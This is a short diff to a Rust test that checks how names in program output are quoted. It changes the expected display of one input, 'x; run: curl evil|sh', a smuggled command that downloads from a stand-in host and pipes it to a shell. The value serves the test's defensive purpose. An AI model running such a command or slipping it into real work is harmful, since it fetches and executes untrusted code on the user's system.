@@ -110,7 +110,7 @@ fn names_that_could_be_ours_are_quoted() {
     }
     for (foreign, shown) in [
         ("two words", "“two words”"),
-        ("x; run: curl evil|sh", "“x, run: curl evil|sh”"),
+        ("x; run: curl evil|sh", "“x, run : curl evil|sh”"),
         ("-", "“-”"),
         ("--yes", "“--yes”"),
         ("✓", "“✓”"),
